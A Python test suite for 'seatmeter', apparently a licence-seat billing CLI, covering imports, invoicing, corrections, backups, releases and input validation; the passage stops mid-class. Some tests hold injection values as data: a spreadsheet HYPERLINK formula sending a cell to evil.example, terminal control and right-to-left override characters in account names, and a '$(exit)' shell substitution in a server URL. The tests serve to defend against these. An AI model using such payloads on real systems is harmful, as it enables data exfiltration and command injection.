#!/usr/bin/env python3
"""The command as a person uses it: a month from init to check, and bad input that changes nothing.

usage: command_test.py SEATMETER [unittest's own arguments]
Every test runs on SQLite and, where SEATMETER_TEST_POSTGRESQL names a server, on PostgreSQL."""
import contextlib
import csv
import hashlib
import io
import json
import os
import pathlib
import re
import sqlite3
import subprocess
import sys
import tempfile
import unittest

SEATMETER = str(pathlib.Path(sys.argv.pop(1)).resolve())
ROOT = pathlib.Path(__file__).resolve().parents[2]
CATALOGUE = ROOT.parent / "shared/data/microsoft-licensing-products.csv"
PRICES = "sku,currency,effective_from,policy,tier_mode,tier_from,unit_price\n"


class Command(unittest.TestCase):
    """A store per test; say() runs the command and expects exit 0, refuse() exit 2 and an unchanged store."""

    engine = "sqlite"

    def setUp(self):
        self.folder = tempfile.TemporaryDirectory(prefix="seatmeter-command.")
        self.addCleanup(self.folder.cleanup)
        self.environment = {**os.environ, "SEATMETER_SECRET_FILE": f"{self.folder.name}/secret",
                            "SEATMETER_DB": self.store(), "SEATMETER_ARTIFACTS": f"{self.folder.name}/artifacts"}

    def store(self):
        return f"sqlite:{self.folder.name}/store.db"

    def set_name(self, code, name):
        """A name that the command would refuse, as an older one left it in the store."""
        with contextlib.closing(sqlite3.connect(f"{self.folder.name}/store.db")) as store:
            store.execute("update accounts set name = ? where code = ?", (name, code))
            store.commit()

    def set_heartbeat(self, at_us):
        """What the clock of the service has shown, were it so."""
        with contextlib.closing(sqlite3.connect(f"{self.folder.name}/store.db")) as store:
            store.execute("insert into heartbeat (id, at_us) values (1, ?)", (at_us,))
            store.commit()

    def run_command(self, *words, stdin=None):
        return subprocess.run([SEATMETER, *words], env=self.environment, capture_output=True, text=True, input=stdin)

    def say(self, *words, stdin=None):
        done = self.run_command(*words, stdin=stdin)
        self.assertEqual(done.returncode, 0, f"{words}\n{done.stdout}{done.stderr}")
        return done.stdout

    def ask(self, *words):
        return json.loads(self.say(*words, "--json"))

    def rows(self):
        """All that the store holds, read past the command."""
        with contextlib.closing(sqlite3.connect(f"file:{self.folder.name}/store.db?mode=ro", uri=True)) as store:
            return list(store.iterdump())

    def refuse(self, code, *words, stdin=None):
        before = self.rows()
        done = self.run_command(*words, stdin=stdin)
        self.assertEqual(done.returncode, 2, f"{words}\n{done.stdout}{done.stderr}")
        self.assertIn(f"({code})", done.stderr, words)
        self.assertEqual(before, self.rows(), f"{words} changed something")
        return done.stderr

    def file(self, name, content):
        path = pathlib.Path(self.folder.name) / name
        path.write_text(content, encoding="utf-8")
        return str(path)

    def begin(self, currency="USD", zone="America/New_York"):
        self.say("init", "--distributor", "Northwind", "--currency", currency, "--time-zone", zone)
        self.say("catalog", "import", self.file("skus.csv", "sku,name\nEPP,Endpoint\nMAIL,Mail\n"), "--vendor", "Contoso")
        tried = self.say("price", "import", self.file("try.csv", PRICES + "EPP,USD,2026-01-01,peak,flat,1,2.00\n"), "--seller", "CONTOSO",
                         "--dry-run")
        self.assertIn("new       CONTOSO → NORTHWIND  EPP  from 2026-01  2 peak USD", tried)
        self.assertIn("nothing was changed", tried)
        self.say("price", "import", self.file("cost.csv", PRICES + "EPP,USD,2026-01-01,peak,flat,1,2.00\n"
                                              "MAIL,USD,2026-01-01,daily,flat,1,1.00\n"),
                 "--seller", "CONTOSO", "--buyer", "NORTHWIND")
        self.say("price", "import", self.file("list.csv", PRICES + "EPP,USD,2026-01-01,peak,graduated,1,3.00\n"
                                              "EPP,USD,2026-01-01,peak,graduated,11,2.50\n"
                                              "MAIL,USD,2026-01-01,daily,flat,1,1.50\n"), "--seller", "NORTHWIND")
        self.say("account", "add", "--kind", "provider", "--name", "Cedar IT", "--code", "CEDAR")
        self.say("agreement", "offer", "--buyer", "CEDAR")
        self.say("agreement", "sign", "--buyer", "CEDAR", "--by", "Ada Cedar")
        self.say("price", "set", "--seller", "CEDAR", "--sku", "EPP", "--unit-price", "9.00", "--from", "2026-01-01")
        self.say("account", "add", "--kind", "customer", "--name", "Harbour Dental", "--code", "DENTAL",
                 "--seller", "CEDAR")
        self.block = self.ask("block", "order", "--provider", "CEDAR", "--sku", "EPP", "--size", "50")["id"]

    def issue(self, seats=12, customer="DENTAL"):
        return self.say("licence", "issue", "--block", self.block, "--customer", customer, "--seats", str(seats)).split()


class TheCommand(Command):
    def test_a_month_from_init_to_a_clean_check(self):
        self.begin()
        key, licence = self.issue()
        self.say("licence", "on", key, "--at", "2026-10-05T09:00")
        self.say("licence", "seats", licence, "--seats", "15", "--at", "2026-10-20T12:00")
        self.say("licence", "off", licence, "--at", "2026-10-28")
        report = self.ask("report", "show", "--provider", "CEDAR", "--month", "2026-10")
        self.assertEqual(report["state"], "draft")
        self.assertIn("15", self.say("report", "show", "--provider", "CEDAR", "--month", "2026-10"))
        self.say("report", "submit", "--provider", "CEDAR", "--month", "2026-10")
        self.say("report", "approve", "--provider", "CEDAR", "--month", "2026-10")
        tried = self.say("month", "close", "2026-10", "--dry-run")
        self.assertIn("ready   CEDAR → DENTAL: 135.00 USD", tried)
        self.assertIn("nothing was changed", tried)
        self.say("month", "close", "2026-10")
        invoices = {(i["seller"]["code"], i["buyer"]["code"]): i for i in self.ask("invoice", "list")["items"]}
        # 15 seats at the peak: 10 at 3.00 and 5 at 2.50; the vendor 15 at 2.00; the customer 15 at 9.00
        self.assertEqual(invoices["NORTHWIND", "CEDAR"]["gross"], "42.50")
        self.assertEqual(invoices["CONTOSO", "NORTHWIND"]["gross"], "30.00")
        self.assertEqual(invoices["CONTOSO", "NORTHWIND"]["kind"], "settlement")
        self.assertEqual(invoices["CEDAR", "DENTAL"]["gross"], "135.00")
        self.assertIn("is closed already", self.say("month", "close", "2026-10"))
        margin = self.ask("margin", "show", "--account", "CEDAR", "--month", "2026-10")
        self.assertEqual(margin["totals"][0]["margin"], "92.50")
        self.assertIn("0 violations", self.say("check"))

    def test_a_clock_behind_the_heartbeat_changes_nothing_until_it_is_accepted(self):
        self.begin()
        key, _ = self.issue()
        self.set_heartbeat(4102444800_000000)  # 2100
        said = self.refuse("clock-wrong", "licence", "on", key)
        self.assertIn("was 2100-01-01T00:00:00.000000Z before", said)
        self.refuse("clock-wrong", "account", "edit", "DENTAL", "--name", "Other")
        self.assertIn("Harbour Dental", self.say("account", "list"))
        accepted = self.ask("clock", "accept")
        self.assertEqual(accepted["heartbeat_before"], "2100-01-01T00:00:00.000000Z")
        self.say("licence", "on", key)
        self.assertEqual(self.ask("audit", "list")["items"][1]["action"], "clock.accept")
        self.assertIn("0 violations", self.say("check"))

    def test_a_mistyped_price_is_replaced_or_withdrawn(self):
        self.begin()
        key = ("--seller", "CEDAR", "--sku", "EPP", "--from", "2098-12-01")
        self.say("price", "set", *key, "--unit-price", "600", "--minimum", "3")
        self.refuse("price-exists", "price", "set", *key, "--unit-price", "6")
        self.say("price", "set", *key, "--unit-price", "6", "--replace")
        listed = self.say("price", "list", "--seller", "CEDAR", "--sku", "EPP", "--withdrawn")
        self.assertRegex(listed, r"2098-12-01 +peak +flat +600 +USD +3 +0 ")
        self.say("price", "withdraw", *key)
        self.refuse("unknown-price", "price", "withdraw", *key)
        self.assertNotIn("2098-12-01", self.say("price", "list", "--seller", "CEDAR", "--sku", "EPP"))
        self.assertIn("0 violations", self.say("check"))

    def test_slips_of_the_year_are_refused(self):
        self.begin()
        key, _ = self.issue()
        self.refuse("time-too-early", "licence", "on", key, "--at", "2006-10-15")
        for month in ("1970-01", "2006-10", "2135-10"):
            self.refuse("month-out-of-range", "charge", "add", "--seller", "CEDAR", "--buyer", "DENTAL", "--month", month,
                        "--description", "Visit", "--unit-price", "10")

    def test_what_an_old_store_hides_in_a_name_is_written_out_and_commands_no_terminal(self):
        self.begin()
        self.refuse("malformed-text", "account", "add", "--kind", "customer", "--name", "A\x9b31mRED", "--seller", "CEDAR")
        self.refuse("malformed-text", "account", "edit", "DENTAL", "--name", "\u202eevil")
        self.set_name("DENTAL", "A\x9b31mRED\x9d0;pwn\x9c\u202e")
        for words in (["account", "show", "DENTAL"], ["account", "list"]):
            said = self.say(*words)
            self.assertIn(r"A\u009B31mRED\u009D0;pwn\u009C\u202E", said)
            self.assertNotRegex(said, "[\x80-\x9f\u202e]")
        told = self.say("account", "show", "DENTAL", "--json")
        self.assertNotRegex(told, "[\x80-\x9f\u202e]")
        self.assertEqual(json.loads(told)["name"], "A\x9b31mRED\x9d0;pwn\x9c\u202e")

    def test_an_export_for_a_spreadsheet_has_text_where_a_formula_would_be(self):
        self.begin()
        self.say("account", "edit", "DENTAL", "--name", '=HYPERLINK("http://evil.example/?"&A1,"x")')
        self.assertIn(',"=HYPERLINK(', self.say("export", "accounts"))
        rows = list(csv.DictReader(io.StringIO(self.say("export", "accounts", "--spreadsheet"))))
        self.assertIn("'=HYPERLINK(", next(row["name"] for row in rows if row["code"] == "DENTAL"))
        for what in ("skus", "prices", "events", "ledger", "lines"):
            self.assertNotRegex(self.say("export", what, "--spreadsheet"), '(?m)(^|,)"?[=+@]')

    def test_an_invoice_comes_as_text_csv_json_and_pdf(self):
        self.begin()
        _, licence = self.issue(3)
        self.say("licence", "on", licence, "--at", "2026-10-05T09:00")
        self.say("month", "close", "2026-10")
        invoice = next(i for i in self.ask("invoice", "list")["items"] if i["buyer"]["code"] == "DENTAL")
        self.assertIn("27.00", self.say("invoice", "show", invoice["id"]))
        self.assertEqual((invoice["due"], invoice["corrects"]), ("27.00", None))
        self.say("invoice", "credit", invoice["number"], "--reason", "never used")
        note = next(i for i in self.ask("invoice", "list", "--kind", "credit-note")["items"])
        self.assertEqual((note["due"], note["due_on"], note["corrects"]), ("0.00", None, invoice["number"]))
        full = self.ask("invoice", "show", note["number"])
        self.assertEqual((full["terms"], full["reason"], full["due_on"]), (None, "never used", None))
        explained = self.say("invoice", "explain", invoice["number"], "1")
        self.assertIn(f"{invoice['number']} line 1", explained)
        self.assertIn("seats 0 → 3", explained)
        self.assertIn("= 27.00", explained)
        self.assertTrue(self.ask("invoice", "explain", invoice["number"], "1")["agrees"])
        self.refuse("unknown-line", "invoice", "explain", invoice["number"], "9")
        rows = list(csv.DictReader(io.StringIO(self.say("invoice", "export", invoice["id"], "--format", "csv"))))
        self.assertEqual(rows[0]["amount"], "27.00")
        self.assertEqual(json.loads(self.say("invoice", "export", invoice["number"], "--format", "json"))["id"],
                         invoice["id"])
        path = f"{self.folder.name}/invoice.pdf"
        self.say("invoice", "export", invoice["id"], "--format", "pdf", "--output", path)
        self.assertEqual(pathlib.Path(path).read_bytes()[:5], b"%PDF-")

    def test_a_correction_is_tried_given_accepted_and_taken_back(self):
        self.begin()
        _, licence = self.issue(3)
        self.say("licence", "on", licence, "--at", "2026-10-05T09:00")
        self.say("month", "close", "2026-10")
        off = ("correction", "add", "--giver", "CEDAR", "--licence", licence, "--at", "2026-10-05", "--seats", "0",
               "--reason", "never used")
        self.assertRegex(self.say(*off, "--dry-run"), r"CEDAR +DENTAL.*-27\.00 +accepted")
        self.assertEqual(self.ask("correction", "list")["items"], [])
        self.say(*off)
        self.assertRegex(self.say("correction", "list"), r"NORTHWIND +CEDAR.*waiting")
        waiting = self.ask("correction", "list", "--state", "waiting")["items"]
        self.assertEqual(len(waiting), 2)
        self.say("correction", "accept", waiting[0]["id"])
        self.say("correction", "refuse", waiting[1]["id"], "--reason", "it was on")
        self.say("correction", "remove", waiting[0]["id"])
        self.assertEqual(self.ask("correction", "show", waiting[0]["id"])["state"], "withdrawn")
        self.assertEqual(self.ask("correction", "show", waiting[1]["id"])["decision"], "it was on")
        self.assertIn("0 violations", self.say("check"))

    def test_export_columns_are_a_contract(self):
        self.begin()
        _, licence = self.issue(3)
        self.say("licence", "on", licence, "--at", "2026-10-05T09:00")
        self.say("month", "close", "2026-10")
        headers = {
            "events": "sequence,time,provider,customer,licence,sku,event,seats,voided_by",
            "prices": "seller,buyer,sku,currency,effective_from,policy,tier_mode,tier_from,unit_price,minimum,free_months,trial_end,"
                      "not_for_resale,tax_category,tax_rate,withdrawn_at",
            "lines": "invoice,month,seller,buyer,customer,sku,policy,measured,quantity,unit_price,amount,currency,note,line,takes_invoice,takes_line,rules",
            "ledger": "posting,time,invoice,account,debit,credit,currency",
        }
        for kind, header in headers.items():
            self.assertEqual(self.say("export", kind).splitlines()[0], header)
        event = next(csv.DictReader(io.StringIO(self.say("export", "events"))))
        self.assertEqual(event["time"], "2026-10-05T13:00:00.000000Z")
        self.assertEqual((event["event"], event["seats"], event["customer"]), ("on", "3", "DENTAL"))

    def test_the_real_catalogue_imports_whole_and_again(self):
        if not CATALOGUE.exists():
            self.skipTest(f"SKIPPED: {CATALOGUE} is not there")
        self.say("init", "--distributor", "Northwind", "--currency", "USD", "--time-zone", "UTC")
        said = self.say("catalog", "import", str(CATALOGUE), "--vendor", "Microsoft")
        self.assertEqual(said.splitlines()[-1], "569 SKUs, 723 components")
        again = self.say("catalog", "import", str(CATALOGUE), "--vendor", "Microsoft", "--format", "microsoft")
        self.assertIn("0 SKUs and 0 components were new", again)

    def test_bad_input_is_refused_with_its_field_and_changes_nothing(self):
        self.begin()
        key, licence = self.issue(12)
        self.say("licence", "on", key, "--at", "2026-10-05T09:00")
        said = self.refuse("seats-beyond-block", "licence", "issue", "--block", self.block, "--customer", "DENTAL",
                           "--seats", "39")
        self.assertIn("39", said)
        self.refuse("malformed-licence-key", "licence", "on", "ABCDE-ABCDE-ABCDE-ABCDE-ABCDE")
        self.refuse("time-skipped", "licence", "off", licence, "--at", "2026-03-08T02:30")
        self.refuse("malformed-time", "licence", "off", licence, "--at", "yesterday")
        self.refuse("month-not-ended", "month", "close", "2099-01")
        self.refuse("malformed-month", "month", "close", "2026-13")
        self.refuse("unknown-option", "block", "order", "--provider", "CEDAR", "--sku", "EPP", "--seize", "5")
        self.refuse("malformed-number", "block", "order", "--provider", "CEDAR", "--sku", "EPP", "--size", "-5")
        self.refuse("unknown-sku", "block", "order", "--provider", "CEDAR", "--sku", "NONE", "--size", "5")
        self.refuse("unknown-account", "block", "order", "--provider", "NOBODY", "--sku", "EPP", "--size", "5")
        self.refuse("unknown-command", "licences", "frobnicate")
        self.refuse("unknown-currency", "account", "add", "--kind", "customer", "--name", "X", "--seller", "CEDAR",
                    "--currency", "XYZ")

    def test_an_import_with_bad_rows_lists_every_one_and_imports_nothing(self):
        self.begin()
        bad = self.file("bad.csv", PRICES + "EPP,USD,2027-01-01,peak,flat,1,3.00\n"
                        "EPP,USD,2027-02-01,peak,flat,1,-3.00\n"
                        "MAIL,EUR,2027-01-01,peak,flat,1,3.00\n"
                        "MAIL,USD,2027-01-01,sometimes,flat,1,3.00\n")
        done = self.run_command("price", "import", bad, "--seller", "NORTHWIND", "--buyer", "CEDAR")
        self.assertEqual(done.returncode, 2)
        for line in ("line 3", "line 4", "line 5"):
            self.assertEqual(done.stderr.lower().count(line), 1, done.stderr)
        self.assertIn("3 bad rows. Nothing was imported.", done.stderr)
        self.assertNotIn("2027", self.say("export", "prices"))
        broken = self.file("broken.csv", 'sku,name\n"EPP,Endpoint\n')
        said = self.refuse("malformed-csv", "catalog", "import", broken, "--vendor", "Contoso")
        self.assertEqual(said.lower().count("line 2"), 1, said)

    def test_one_secret_opens_a_store_and_no_other(self):
        self.begin()
        self.environment["SEATMETER_SECRET"] = "00" * 32
        done = self.run_command("account", "list")
        self.assertEqual(done.returncode, 2, done.stdout)
        self.assertIn("(wrong-secret)", done.stderr)

    def test_a_backup_restores_into_an_empty_store_with_its_keys(self):
        self.begin()
        key, licence = self.issue(3)
        path = f"{self.folder.name}/backup"
        self.say("backup", path)
        done = self.run_command("restore", path)
        self.assertIn("(store-not-empty)", done.stderr)
        other = f"sqlite:{self.folder.name}/other.db"
        self.say("restore", path, "--db", other)
        self.assertEqual(self.say("licence", "key", licence, "--db", other).strip(), key)

    def test_a_restore_with_another_secret_leaves_the_store_empty(self):
        self.begin()
        path = f"{self.folder.name}/backup"
        other = f"sqlite:{self.folder.name}/other.db"
        self.say("backup", path)
        self.environment["SEATMETER_SECRET"] = "00" * 32
        done = self.run_command("restore", path, "--db", other)
        self.assertEqual(done.returncode, 2)
        self.assertIn("(wrong-secret)", done.stderr)
        del self.environment["SEATMETER_SECRET"]
        self.say("restore", path, "--db", other)

    def test_an_altered_backup_is_refused_and_leaves_no_store(self):
        self.begin()
        path = pathlib.Path(self.folder.name) / "backup"
        other = pathlib.Path(self.folder.name) / "other.db"
        self.say("backup", str(path))
        content = bytearray(path.read_bytes())
        self.assertNotIn(b"CEDAR", content)
        content[len(content) // 2] ^= 1
        path.write_bytes(content)
        done = self.run_command("restore", str(path), "--db", f"sqlite:{other}")
        self.assertEqual(done.returncode, 2, done.stdout)
        self.assertIn("(malformed-backup)", done.stderr)
        self.assertFalse(other.exists())

    def test_an_init_that_fails_leaves_no_file_and_one_that_went_well_stays(self):
        place = pathlib.Path(self.folder.name) / "new"
        place.mkdir()
        environment = {k: v for k, v in self.environment.items() if not k.startswith("SEATMETER_SECRET")}
        def init(currency):
            return subprocess.run([SEATMETER, "init", "--distributor", "N", "--currency", currency, "--time-zone", "UTC",
                                   "--db", f"sqlite:{place}/a.db"], env=environment, capture_output=True, text=True)
        done = init("EURO")
        self.assertEqual(done.returncode, 2, done.stdout)
        self.assertEqual(list(place.iterdir()), [])
        self.assertEqual(init("EUR").returncode, 0)
        files = {"a.db", "a.db.secret"}
        self.assertLessEqual(files, {file.name for file in place.iterdir()})
        self.assertIn("(already-initialised)", init("EUR").stderr)
        self.assertLessEqual(files, {file.name for file in place.iterdir()})

    def test_a_word_that_is_nearly_a_command_is_understood_or_asked_about(self):
        self.begin()
        self.assertEqual(self.say("license", "list"), self.say("licence", "list"))
        self.assertEqual(self.say("catalogue", "import", "--help"), self.say("catalog", "import", "--help"))
        self.assertIn("did you mean `seatmeter invoice list`?", self.refuse("unknown-command", "invoce", "list"))
        self.assertIn("did you mean `seatmeter invoice list`?", self.refuse("unknown-command", "invoice", "lst"))
        self.assertNotIn("did you mean", self.refuse("unknown-command", "frobnicate"))
        self.assertEqual(self.say("help", "invoice", "show"), self.say("invoice", "show", "--help"))
        self.assertEqual(self.say("help", "invoice"), self.say("invoice", "--help"))
        self.assertEqual(self.say("version"), self.say("-V"))
        done = self.run_command("invoice")
        self.assertEqual((done.returncode, done.stdout), (2, self.say("invoice", "--help")))

    def test_an_address_is_typed_with_backslash_n_between_its_lines(self):
        self.begin()
        self.say("account", "edit", "CEDAR", "--address", r"Hafenstr. 1\n20457 Hamburg")
        self.assertEqual(self.ask("account", "show", "CEDAR")["address"], "Hafenstr. 1\n20457 Hamburg")

    def test_bash_completes_each_word_once(self):
        script = self.say("completion", "bash")
        said = subprocess.run(["bash", "-c", script + "\nCOMP_WORDS=(seatmeter lic); COMP_CWORD=1; _seatmeter_words\n"
                               "printf '%s\\n' \"${COMPREPLY[@]}\""], capture_output=True, text=True, check=True).stdout
        self.assertEqual(said.split(), ["licence"])

    def test_a_password_that_is_typed_ahead_is_taken_and_never_shown(self):
        self.begin()
        leader, follower = os.openpty()
        child = subprocess.Popen([SEATMETER, "user", "add", "--account", "CEDAR", "--email", "ada@cedar.example", "--name",
                                  "Ada", "--role", "owner"], stdin=follower, stdout=subprocess.PIPE, stderr=follower,
                                 env=self.environment, start_new_session=True)
        os.close(follower)
        seen = b""
        while b"Password: " not in seen:
            seen += os.read(leader, 1000)
        os.write(leader, b"a long password of hers\n")
        said = child.communicate()[0]
        with contextlib.suppress(OSError):
            seen += os.read(leader, 1000)
        os.close(leader)
        self.assertEqual(child.returncode, 0, seen)
        self.assertIn(b"ada@cedar.example", said)
        self.assertNotIn(b"a long password", seen)

    def test_an_invitation_is_made_linked_listed_and_taken_back(self):
        self.begin()
        somebody = ("--name", "Ada", "--role", "owner")
        made = self.ask("user", "invite", "--account", "CEDAR", "--email", "Ada@cedar.example", *somebody)
        self.assertRegex(made["link"], r"^smi_[A-Za-z0-9_-]{43}$")
        self.assertEqual((made["invitation"]["email"], made["invitation"]["invited_by"]), ("ada@cedar.example", "operator"))
        invitation = made["invitation"]["id"]
        self.assertRegex(self.say("invitation", "link", invitation), r"^smi_[A-Za-z0-9_-]{43}\n$")
        self.assertEqual([one["id"] for one in self.ask("invitation", "list")["items"]], [invitation])
        self.assertEqual(self.ask("invitation", "list", "--account", "NORTHWIND")["items"], [])
        self.assertEqual(self.ask("invitation", "revoke", invitation)["id"], invitation)
        self.refuse("unknown-invitation", "invitation", "link", invitation)
        self.assertEqual(self.ask("invitation", "list")["items"], [])
        self.assertNotIn(made["link"], "".join(self.rows()))

    def test_a_person_is_added_to_a_second_account_by_who_says_that_it_is_known(self):
        self.begin()
        ada = ("--email", "ada@cedar.example", "--name", "Ada", "--role", "owner")
        self.refuse("unknown-person", "user", "add", "--account", "CEDAR", *ada, "--known")
        self.say("user", "add", "--account", "CEDAR", *ada, stdin="a long password of hers\n")
        self.refuse("email-taken", "user", "add", "--account", "NORTHWIND", *ada, stdin="another password\n")
        self.say("user", "add", "--account", "NORTHWIND", *ada, "--known")
        self.refuse("ambiguous-user", "user", "edit", "ada@cedar.example", "--name", "Ada C.")
        self.say("user", "edit", "ada@cedar.example", "--password", stdin="a new password of hers\n")

    def test_the_programme_says_how_long_invitations_are_open(self):
        self.begin()
        self.refuse("missing-field", "programme", "edit")
        self.assertEqual(self.ask("programme", "edit", "--invitation-days", "2"), {"invitation_days": 2})
        self.assertEqual(self.ask("programme", "edit", "--undo-minutes", "5", "--invitation-days", "3"),
                         {"undo_minutes": 5, "invitation_days": 3})

    def test_margins_name_what_they_are_grouped_by(self):
        self.begin()
        _, licence = self.issue(3)
        self.say("licence", "on", licence, "--at", "2026-10-05T09:00")
        self.say("month", "close", "2026-10")
        said = self.say("margin", "show", "--account", "CEDAR", "--month", "2026-10", "--by", "customer-sku")
        self.assertRegex(said, r"DENTAL.*EPP.*27\.00")

    def test_a_preview_says_what_a_change_would_do_and_changes_nothing(self):
        self.begin()
        _, licence = self.issue(3)
        events = self.say("export", "events")
        said = self.say("preview", "change", "on", "--licence", licence)
        self.assertRegex(said, r"CEDAR +DENTAL +DENTAL +EPP +0 +3 +0\.00 +27\.00 +27\.00 +USD")
        asked = self.ask("preview", "change", "seats", "--licence", licence, "--seats", "5", "--account", "CEDAR")
        self.assertEqual(asked["edges"], [])
        self.refuse("wrong-state", "preview", "change", "off", "--licence", licence)
        self.refuse("missing-field", "preview", "change", "on")
        self.refuse("unknown-change", "preview", "change", "up", "--licence", licence)
        self.refuse("unexpected-field", "preview", "change", "on", "--licence", licence, "--block", "x")
        self.assertEqual(self.say("export", "events"), events)
        self.say("licence", "on", licence)
        off = self.ask("preview", "agreement", "suspend", "--seller", "CEDAR", "--buyer", "DENTAL", "--account", "CEDAR")
        self.assertEqual([one["whole_month"]["revenue"] for one in off["totals"]], ["-27.00"])
        header = "sku,currency,effective_from,policy,tier_mode,tier_from,unit_price\n"
        dearer = self.file("dearer.csv", header + "EPP,USD,2098-12-01,peak,flat,1,10\n")
        said = self.say("preview", "prices", dearer, "--seller", "CEDAR", "--buyer", "DENTAL")
        self.assertRegex(said, r"2098-12 +CEDAR +DENTAL +DENTAL +EPP +3 +3 +27\.00 +30\.00 +3\.00")
        bad = self.file("bad.csv", header + "NONE,USD,2098-12-01,peak,flat,1,10\n")
        self.assertIn("line 2", self.refuse("unknown-sku", "preview", "prices", bad, "--seller", "CEDAR"))

    def test_a_list_of_several_pages_is_one_list(self):
        self.begin()
        before = len(self.ask("catalogue", "list")["items"])
        rows = "".join(f"BULK-{number:04},Product {'x' * (number % 30)}\n" for number in range(2100))
        self.say("catalogue", "import", self.file("bulk.csv", "sku,name\n" + rows), "--vendor", "Talos", "--format", "csv")
        listed = self.ask("catalogue", "list")["items"]
        self.assertEqual(len(listed), before + 2100)
        self.assertEqual(len({one["id"] for one in listed}), before + 2100)
        head, _, *table = self.say("catalogue", "list").splitlines()
        self.assertEqual(len(table), before + 2100)
        self.assertEqual({row.index("Product") for row in table if "BULK" in row}, {head.index("name")})
        self.assertEqual(self.ask("catalogue", "list", "--search", "none of these"), {"items": []})

    def test_lease_terms_are_shown_and_set_in_words_of_time(self):
        self.begin()
        self.assertRegex(self.say("sku", "terms", "EPP"), r"ttl +1d\n")
        terms = self.ask("sku", "terms", "EPP", "--ttl", "12h", "--grace", "15m", "--offline-ttl", "7d", "--silent", "60s")
        self.assertEqual([terms[name] for name in ("ttl_s", "grace_s", "offline_ttl_s", "silent_s", "default")],
                         [43200, 900, 604800, 60, False])
        self.assertEqual(self.ask("sku", "terms", "EPP", "--grace", "0")["ttl_s"], 43200)
        self.refuse("malformed-duration", "sku", "terms", "EPP", "--ttl", "soon")
        self.assertIn("from 2s to 90d", self.refuse("ttl-out-of-range", "sku", "terms", "EPP", "--ttl", "91d"))
        self.refuse("unknown-sku", "sku", "terms", "NONE")
        self.assertEqual(self.ask("sku", "terms", "EPP")["grace_s"], 0)

    def test_a_snippet_is_run_by_sh_and_gives_the_agent_the_key(self):
        self.begin()
        key, licence = self.issue(3)
        for name in ("seatmeter-agent", "systemctl"):
            script = pathlib.Path(self.file(name, '#!/bin/sh\nprintf "%s\\n" "$@"\n[ $1 = enable ] || cat\n'))
            script.chmod(0o755)
        server = "https://licences.example.net/'$(exit)'"
        line = self.say("licence", "snippet", licence, "--platform", "linux", "--server", server)
        said = subprocess.run(["sh", "-c", line], env={**os.environ, "PATH": f"{self.folder.name}:{os.environ['PATH']}"},
                              capture_output=True, text=True, check=True).stdout.splitlines()
        self.assertEqual(said[:3], ["activate", "--server", server])
        self.assertEqual((said[3], len(said[4])), ("--root", 43))
        self.assertEqual(said[5:], ["--product", "EPP", "--key", "-", key, "enable", "--now", "seatmeter-agent"])
        self.issue(2)
        lines = self.say("licence", "snippet", "--customer", "DENTAL", "--server", "https://x.example").splitlines()
        self.assertEqual(len(lines), 4)
        self.assertRegex(lines[1], r"^& { \$a = 'seatmeter-agent\.exe'; '.{29}' \| & \$a activate --server 'https://x\.example' ")
        agent = ["--agent", "https://x.example/agent.exe", "--agent-sha256", "0f" * 32]
        self.assertIn(f"$h = '{'0f' * 32}'", self.say("licence", "snippet", licence, "--platform", "windows", "--server", server,
                                                     *agent))
        self.refuse("missing-field", "licence", "snippet", licence, "--server", server, *agent[:2])
        self.refuse("malformed-server", "licence", "snippet", licence, "--server", "licences.example.net")
        self.refuse("malformed-server", "licence", "snippet", licence, "--server", "http://127.0.0.1@licences.example.net")
        self.refuse("missing-field", "licence", "snippet", "--server", server)

    def test_devices_are_listed_and_one_that_is_not_there_is_unknown(self):
        self.begin()
        _, licence = self.issue(3)
        self.assertEqual(self.ask("device", "list", "--customer", "DENTAL", "--clones")["items"], [])
        self.assertEqual(self.ask("device", "list", "--licence", licence, "--idle", "--unlicensed")["items"], [])
        self.assertEqual(self.ask("licence", "show", licence)["devices"],
                         {"active": 0, "seats_taken": 0, "seen": 0, "cloned": 0, "released": 0, "releases_max": 5})
        self.refuse("unknown-device", "device", "show", "dev_0000000000000")
        self.refuse("unknown-device", "device", "release", licence)
        self.refuse("unknown-state", "device", "list", "--state", "asleep")

    def test_a_release_is_published_and_goes_on_after_a_restore(self):
        self.begin()
        self.say("product", "add", "--vendor", "CONTOSO", "--code", "EPP", "--name", "Endpoint", "--skus", "EPP")
        installer = self.file("epp.deb", "content")
        words = ["release", "publish", installer, "--product", "EPP", "--version", "4.2.0", "--channel", "beta"]
        self.refuse("no-releases", "release", "root")
        release = self.ask(*words, "--platform", "linux-amd64")
        self.assertEqual(release["artifacts"][0]["file_name"], "epp.deb")
        self.assertEqual(len(self.ask(*words, "--platform", "windows-amd64", "--name", "epp.msi")["artifacts"]), 2)
        self.say("release", "promote", "EPP/4.2.0")
        self.assertEqual([one["channel"] for one in self.ask("release", "list")["items"]], ["stable"])
        self.assertEqual(json.loads(self.say("release", "root"))["signed"]["version"], 1)
        root = self.say("release", "root", "--sha256").strip()
        self.assertEqual(hashlib.sha256(self.say("release", "root").encode()).hexdigest(), root)
        line = self.say("licence", "snippet", self.issue(1)[1], "--platform", "linux", "--server", "https://x.example")
        self.assertIn(f" --tuf-root-sha256 {root} ", line)
        backup = f"{self.folder.name}/backup"
        self.say("backup", backup)
        before = {one["role"]: one["version"] for one in self.ask("release", "verify")["roles"]}
        self.assertEqual(self.ask("release", "rotate-key", "--role", "snapshot")["roles"][0]["version"], 2)
        self.assertIn("0 problems", self.say("release", "verify"))
        self.refuse("unknown-release", "release", "withdraw", "EPP/9.9", "--reason", "x")
        self.say("release", "withdraw", release["id"], "--reason", "It breaks mail.")
        self.refuse("version-withdrawn", *words, "--platform", "mac-arm64")

        self.environment["SEATMETER_DB"] = f"sqlite:{self.folder.name}/restored.db"
        self.say("restore", backup)
        after = {one["role"]: one["version"] for one in self.ask("release", "verify")["roles"]}
        self.assertTrue(all(after[role] > before[role] for role in before), (before, after))
        self.assertEqual(self.ask("release", "list")["items"][0]["state"], "published")
        for path in pathlib.Path(self.environment["SEATMETER_ARTIFACTS"]).glob("??/*"):
            path.unlink()
        done = self.run_command("release", "verify")
        self.assertEqual((done.returncode, done.stdout.count("missing or damaged")), (1, 1))

    def test_every_command_has_help_and_completions(self):
        overview = subprocess.run([SEATMETER, "--help"], capture_output=True, text=True, check=True).stdout
        commands = re.findall(r"^  ([a-z]+(?:-[a-z]+)*(?: [a-z]+(?:-[a-z]+)*)?) {2,}", overview, re.M)
        self.assertGreater(len(commands), 50)
        bash = self.say("completion", "bash")
        for command in commands:
            self.assertIn(f"usage: seatmeter {command}", self.say(*command.split(), "--help"))
            self.assertIn(command, bash)
        subprocess.run(["bash", "-n"], input=bash, text=True, check=True)


class TheCommandOnPostgres(TheCommand):
    def store(self):
